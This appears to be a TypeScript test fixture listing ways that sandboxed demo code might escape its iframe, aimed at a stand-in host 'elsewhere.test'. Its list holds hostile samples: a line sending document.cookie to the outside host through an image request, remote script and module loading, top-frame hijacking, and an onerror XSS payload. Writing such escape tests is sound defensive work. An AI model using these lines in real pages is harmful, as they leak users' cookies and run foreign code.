/** A host that nobody has: whoever asks for it has left. */
export const ELSEWHERE = 'https://elsewhere.test';

const FORM = `const form = document.createElement('form'); document.body.append(form);`;
const LINK = `const link = document.createElement('a'); document.body.append(link);`;
const FRAME = `const frame = document.createElement('iframe'); document.body.append(frame);`;

/** What edited code of a demo does to leave the frame in which it runs. */
export const ESCAPES: readonly string[] = [
  `parent.document.title = 'reached'`,
  `top.document.body.innerHTML = 'reached'`,
  `frameElement.ownerDocument.title = 'reached'`,
  `parent.localStorage.setItem('reached', '1')`,
  `localStorage.setItem('reached', '1')`,
  `document.cookie = 'reached=1'`,
  `indexedDB.open('reached')`,
  `caches.open('reached')`,
  `navigator.serviceWorker.register('/sw.js')`,
  `top.location.href = '${ELSEWHERE}/'`,
  `top.location = 'javascript:document.title="reached"'`,
  `parent.location.hash = 'reached'`,
  `parent.history.pushState(null, '', '/reached/')`,
  `window.open('${ELSEWHERE}/', '_top')`,
  `window.open('javascript:opener.parent.document.title="reached"')`,
  `location.href = '${ELSEWHERE}/'`,
  `document.write('<meta http-equiv="refresh" content="0;url=${ELSEWHERE}/">')`,
  `${FORM} form.action = '${ELSEWHERE}/'; form.target = '_top'; form.submit()`,
  `${LINK} link.href = '${ELSEWHERE}/'; link.target = '_top'; link.click()`,
  `${LINK} link.href = '${ELSEWHERE}/a.zip'; link.download = 'a.zip'; link.click()`,
  `fetch('${ELSEWHERE}/').catch(() => undefined)`,
  `const request = new XMLHttpRequest(); request.open('GET', '${ELSEWHERE}/'); request.send()`,
  `navigator.sendBeacon('${ELSEWHERE}/', 'reached')`,
  `new WebSocket('wss://elsewhere.test/')`,
  `new EventSource('${ELSEWHERE}/')`,
  `import('${ELSEWHERE}/a.js').catch(() => undefined)`,
  `new Image().src = '${ELSEWHERE}/a.png?' + document.cookie`,
  `${FRAME} frame.src = '${ELSEWHERE}/'`,
  `${FRAME} frame.srcdoc = '<script>top.document.title = "reached"</script>'`,
  `const script = document.createElement('script'); script.src = '${ELSEWHERE}/a.js'; document.head.append(script)`,
  `alert('reached'); confirm('reached'); print()`,
  `parent.postMessage({type: 'reached', html: '<img src=x onerror=alert(1)>'}, '*')`,
];
